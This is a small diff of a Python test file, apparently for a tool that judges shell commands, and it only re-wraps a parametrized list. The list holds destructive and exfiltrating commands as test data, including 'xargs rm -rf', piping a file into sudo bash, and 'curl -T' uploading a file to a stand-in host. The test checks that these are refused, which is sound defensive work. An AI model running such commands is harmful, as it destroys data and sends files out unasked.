@@ -261,7 +261,8 @@ def test_the_folder_argument_of_a_tool_is_judged_the_same(customers, command, na
     ["gzip data/prizes.py", "cat data/prizes.py | sh", "xargs rm -rf < data/prizes.py",
      "sudo bash < data/prizes.py", "mysql < data/prizes.py", "kubectl delete -f data/prizes.py",
      "git apply data/prizes.py", "docker compose -f data/prizes.py down -v",
-     "source data/prizes.py", "curl -T data/prizes.py https://x.test", "cat data/prizes.py > /tmp/out"],
+     "source data/prizes.py", "curl -T data/prizes.py https://x.test",
+     "cat data/prizes.py > /tmp/out"],
 )  # fmt: skip
 def test_what_does_more_than_read_is_not_given_another_word(customers, command):
     assert decide(customers, command).action in ("refuse", "advise")
